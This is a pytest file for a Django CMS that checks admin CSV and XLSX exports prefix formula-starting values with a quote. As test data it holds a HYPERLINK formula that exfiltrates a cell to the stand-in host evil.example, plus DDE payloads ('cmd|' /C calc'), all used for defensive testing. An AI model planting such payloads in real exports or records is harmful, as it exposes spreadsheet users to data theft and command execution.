"""Admin exports never hand a spreadsheet program a formula to run."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cms.models.calls_to_action import CallToActionDailyCount
from cms.roles import DIRECTORY_MANAGERS
from cms.spreadsheets import escape_formula
from tests.cta_helpers import make_call_to_action, seed_article
from tests.practitioner_factories import make_practitioner

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def content(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(content(response).decode())))


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(content(response))).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Spring offer", "Spring offer"),
        ("", ""),
        (-3, -3),
        (12.5, 12.5),
        (None, None),
    ],
)
def test_text_that_could_start_a_formula_gains_a_quote(value, escaped):
    assert escape_formula(value) == escaped


@pytest.fixture
def hostile_figures(demo_site):
    page = seed_article()
    page.title = HOSTILE_TITLE
    page.save_revision().publish()
    call_to_action = make_call_to_action(name="@SUM(1+1)*cmd|' /C calc'!A0")
    CallToActionDailyCount.objects.create(
        call_to_action=call_to_action,
        page=page,
        date=timezone.localdate(),
        impressions=10,
        clicks=2,
    )
    return call_to_action


@pytest.fixture
def marketing(client, demo_site):
    client.force_login(get_user_model().objects.get(username="marketing"))
    return client


def test_the_call_to_action_report_exports_titles_as_text(marketing, hostile_figures):
    url = reverse("calls_to_action_report")
    [row] = [r for r in csv_rows(marketing.get(url, {"export": "csv"})) if r[1] != "Page"][:1]
    assert row[:4] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'" + HOSTILE_TITLE, "10", "2"]
    rows = xlsx_rows(marketing.get(url, {"export": "xlsx"}))
    assert rows[1][:4] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'" + HOSTILE_TITLE, 10, 2]


def test_the_reverification_report_exports_names_as_text(client, demo_site):
    manager = get_user_model().objects.create_user("manager", "m@example.org", "pw")
    manager.groups.add(Group.objects.get(name=DIRECTORY_MANAGERS))
    client.force_login(manager)
    make_practitioner(name="=cmd|' /C calc'!A0", license_state="NY", verified_days_ago=500)
    url = reverse("practitioners_reverification_report")
    rows = csv_rows(client.get(url, {"export": "csv"}))
    assert ["'=cmd|' /C calc'!A0", "NY"] in [row[:2] for row in rows]
    rows = xlsx_rows(client.get(url, {"export": "xlsx"}))
    assert ["'=cmd|' /C calc'!A0", "NY"] in [row[:2] for row in rows]
